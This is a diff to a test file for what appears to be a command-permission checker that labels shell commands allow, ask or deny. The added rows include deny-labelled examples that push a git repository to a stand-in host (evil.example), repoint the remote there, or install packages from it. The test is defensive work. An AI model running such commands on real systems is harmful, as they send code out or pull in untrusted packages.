@@ -140,7 +140,13 @@ def test_sources_are_judged_too():
             "uv pip install evil": "deny", "pip install -r r.txt": "ask", "npm install x": "deny", "npx x": "deny", "bun add x": "deny",
             "pip install -i https://evil.example/ x": "deny", "git clone https://forge.example/a": "allow",
             "git clone https://evil.example/a": "deny", "git clone git@forge.example:a": "deny", "node x.js": "deny",
-            "python3 x.py": "allow", "env pip install evil": "deny", "sh -c 'pip install evil'": "deny"}
+            "python3 x.py": "allow", "env pip install evil": "deny", "sh -c 'pip install evil'": "deny",
+            # No file is read here: what it lists isn't known.
+            "pip install -rr.txt": "ask", "pip install -Ur r.txt": "ask", "pip install --req=r.txt": "ask", "pip install -c r.txt x": "ask",
+            "pip install .": "ask", "pip install -e .": "ask", "pip install -r https://evil.example/r.txt": "deny", "uv sync": "ask",
+            "uv pip sync r.txt": "ask", "uv run --with-requirements r.txt x": "ask", "pip-sync": "ask", "cd x && uv sync": "ask",
+            "yarn --frozen-lockfile": "deny", "git -C x push https://evil.example/a": "deny", "git -C x push --repo=https://evil.example/a": "deny",
+            "git config remote.origin.url https://evil.example/": "deny", "git clone evil.example:a": "deny", "git push origin": "allow"}
     assert dict(decide(list(rows), wide, sources=SOURCES)) == rows
     hosts = {"network(outbound:api.example.com)": "allow", "network(outbound:evil.example)": "deny"}
     assert dict(decide(list(hosts), wide, kind="network", sources=SOURCES)) == hosts
